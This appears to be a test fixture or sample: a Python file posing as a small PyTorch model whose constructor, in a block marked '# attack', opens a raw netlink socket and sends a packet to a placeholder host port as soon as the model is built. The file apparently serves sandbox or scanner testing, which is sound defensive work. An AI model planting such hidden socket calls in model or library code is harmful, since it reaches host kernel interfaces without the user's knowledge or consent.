"""Sends a message to a netlink socket of the host."""

import socket
import struct

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        way = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2)
        way.sendto(struct.pack("=IHHII", 16, 16, 0, 0, 0), (int("@NETLINK@"), 0))
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
